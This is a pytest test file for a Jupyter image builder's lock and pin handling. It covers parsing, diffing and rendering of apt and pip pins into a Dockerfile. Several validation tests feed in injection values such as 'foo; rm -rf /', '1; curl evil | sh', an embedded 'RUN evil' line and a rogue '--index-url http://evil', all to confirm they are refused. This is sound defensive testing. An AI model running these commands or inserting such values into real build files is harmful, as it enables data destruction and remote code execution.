"""Locks as data: read from the lock script's output, refused when hand-made badly, compared, pinned."""

from __future__ import annotations

import pytest

from jupyter_stardock.core.catalog import Catalog, default_catalog_dirs
from jupyter_stardock.core.lock import (
    LOCK_FORMAT,
    Change,
    Lock,
    diff,
    parse_lock_output,
    pins_for,
    render_diff,
)
from jupyter_stardock.core.recipe import Recipe, compose
from jupyter_stardock.errors import RecipeError

BASE = "sha256:" + "b" * 64
OUTPUT = """\
debian\tlibc6\t2.36-9+deb12u9
debian\tpython3-astropy\t5.2.1-2+deb12u1
debian\tlibfoo1\t1:2.3~rc1-1
python\tEmcee\t3.1.6
python\tipykernel\t7.4.0
python\tbad name\t1
r\tRcpp\t1.0.10
WARNING: something on stderr
debian\tevil;rm\t1
"""


def test_the_script_output_becomes_a_lock_and_junk_is_skipped() -> None:
    lock = parse_lock_output(OUTPUT, base_image=BASE, image_id="sha256:" + "c" * 64)
    assert lock.debian == {
        "libc6": "2.36-9+deb12u9",
        "python3-astropy": "5.2.1-2+deb12u1",
        "libfoo1": "1:2.3~rc1-1",
    }
    assert lock.python == {"emcee": "3.1.6", "ipykernel": "7.4.0"}
    assert lock.r == {"Rcpp": "1.0.10"}
    assert Lock.from_json(lock.to_json()) == lock
    assert lock.summary() == "3 Debian, 2 Python, 1 R package(s)"


@pytest.mark.parametrize(
    "data",
    [
        {"format": "something else"},
        {"format": LOCK_FORMAT, "debian": {"foo; rm -rf /": "1"}},
        {"format": LOCK_FORMAT, "debian": {"foo": "1\nRUN evil"}},
        {"format": LOCK_FORMAT, "python": {"x": "1 --index-url http://evil"}},
        {"format": LOCK_FORMAT, "python": ["emcee==3"]},
        {"format": LOCK_FORMAT, "base_image": "evil image"},
    ],
)
def test_a_lock_with_anything_a_package_manager_would_not_take_is_refused(data: object) -> None:
    with pytest.raises(RecipeError) as err:
        Lock.from_json(data, where="the lock in x.ipynb")
    assert "the lock in x.ipynb" in str(err.value)


def test_diff_names_each_package_that_differs() -> None:
    a = Lock(base_image=BASE, debian={"a": "1", "b": "2"}, python={"emcee": "3.1.6"})
    b = Lock(base_image=BASE, debian={"a": "1", "b": "3", "c": "1"}, python={})
    changes = diff(a, b)
    assert changes == [
        Change("debian", "b", "2", "3"),
        Change("debian", "c", None, "1"),
        Change("python", "emcee", "3.1.6", None),
    ]
    text = render_diff(changes, "old", "new")
    assert "~ Debian b 2 -> 3" in text and "+ Debian c 1" in text and "- Python emcee" in text
    assert diff(a, a) == [] and "exactly the same" in render_diff([], "old", "new")
    assert (
        diff(a, Lock(base_image="sha256:" + "d" * 64, debian=a.debian, python=a.python))[0].kind
        == "base"
    )


def test_pins_leave_out_what_the_base_image_holds() -> None:
    base = Lock(debian={"libc6": "2.36", "tini": "0.19"}, python={"pip": "23.0.1"})
    lock = Lock(
        debian={"libc6": "2.36", "tini": "0.20", "astro": "5"},
        python={"pip": "23.0.1", "emcee": "3"},
    )
    assert pins_for(lock, base) == {"apt": {"astro": "5", "tini": "0.20"}, "pip": {"emcee": "3"}}


CATALOG = Catalog.load(default_catalog_dirs())


def test_pins_are_rendered_first_for_apt_and_enter_the_content_hash() -> None:
    plain = Recipe.from_json({"apps": ["astropy"]})
    pinned = Recipe.from_json(
        {
            "apps": ["astropy"],
            "pins": {"apt": {"python3-astropy": "5.2.1-2"}, "pip": {"emcee": "3.1.6"}},
        }
    )
    a, b = compose(plain, CATALOG, BASE), compose(pinned, CATALOG, BASE)
    assert a.content_hash != b.content_hash and a.recipe.to_json().get("pins") is None
    assert b.recipe.to_json()["pins"] == {
        "apt": {"python3-astropy": "5.2.1-2"},
        "pip": {"emcee": "3.1.6"},
    }
    text = b.dockerfile
    assert text.index("python3-astropy=5.2.1-2") < text.index("# --- App: Astropy")
    assert text.index("-r /opt/stardock/lock-requirements.txt") > text.index("PIP_CONSTRAINT")
    assert b.context["stardock-pip-pins"] == b"emcee==3.1.6\n"
    assert b"Pin: version 5.2.1-2\nPin-Priority: 1001" in b.context["stardock-apt-pins"]
    other = Recipe.from_json({"apps": ["astropy"], "pins": {"apt": {"python3-astropy": "5.2.1-3"}}})
    assert compose(other, CATALOG, BASE).content_hash != b.content_hash


@pytest.mark.parametrize(
    "pins",
    [{"apt": {"x": "1; curl evil | sh"}}, {"conda": {}}, ["x=1"], {"pip": {"a": "1\nRUN x"}}],
)
def test_bad_pins_in_a_recipe_are_refused(pins: object) -> None:
    with pytest.raises(RecipeError):
        Recipe.from_json({"pins": pins})
